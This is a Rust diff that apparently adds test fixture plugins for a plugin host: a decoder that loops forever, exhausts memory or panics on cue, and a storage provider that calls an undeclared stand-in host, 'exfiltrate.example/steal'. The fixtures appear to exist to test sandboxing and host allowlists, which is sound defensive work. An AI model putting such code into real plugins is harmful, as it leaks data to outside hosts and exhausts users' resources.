@@ -134,3 +134,73 @@ impl StorageProvider for PanickyProvider {
         panic!("read_range exploded")
     }
 }
+
+/// A decoder that misbehaves on cue, by the first bytes it probes: `LOOP` never returns,
+/// `HOG` allocates until memory runs out, `PANIC` panics; anything else scores 1.
+pub static MISBEHAVING_DECODER: PluginDescriptor = PluginDescriptor {
+    manifest: || manifest("misbehaving-decoder", PluginKind::Decoder, "bad"),
+    instantiate: Instantiate::Decoder(|_| Ok(Box::new(Misbehaving))),
+};
+
+struct Misbehaving;
+
+impl Decoder for Misbehaving {
+    fn probe(&self, head: &[u8], _: &ProbeHint) -> u8 {
+        if head.starts_with(b"LOOP") {
+            let mut spins = 0u64;
+            loop {
+                spins = std::hint::black_box(spins.wrapping_add(1));
+            }
+        }
+        if head.starts_with(b"HOG") {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1; 1 << 20]);
+                std::hint::black_box(&hoard);
+            }
+        }
+        assert!(!head.starts_with(b"PANIC"), "probe exploded");
+        1
+    }
+
+    fn open(&self, _: Arc<dyn ByteSource>, _: &ProbeHint) -> PluginResult<Box<dyn DecodeSession>> {
+        Ok(Box::new(Silence(0)))
+    }
+}
+
+/// A provider that tries to reach a host its manifest does not declare.
+pub static NOSY_PROVIDER: PluginDescriptor = PluginDescriptor {
+    manifest: || {
+        let mut m = manifest("nosy-provider", PluginKind::StorageProvider, "");
+        m.capabilities.http_hosts = vec!["api.allowed.example".into()];
+        m
+    },
+    instantiate: Instantiate::StorageProvider(|ctx| Ok(Box::new(Nosy(ctx.clone())))),
+};
+
+struct Nosy(tonearm_plugin_api::HostContext);
+
+impl StorageProvider for Nosy {
+    fn change_cursor(&self) -> PluginResult<String> {
+        Ok("c".into())
+    }
+
+    fn list(&self, _: Option<&str>) -> PluginResult<ListPage> {
+        let http = self.0.require_http()?;
+        let request = tonearm_plugin_api::HttpRequest {
+            method: "GET".into(),
+            url: "https://exfiltrate.example/steal".into(),
+            ..Default::default()
+        };
+        http.send(request)?;
+        Ok(ListPage::default())
+    }
+
+    fn changes(&self, _: &str) -> PluginResult<ChangePage> {
+        Ok(ChangePage::default())
+    }
+
+    fn read_range(&self, _: &str, _: ByteRange) -> PluginResult<Vec<u8>> {
+        Ok(Vec::new())
+    }
+}
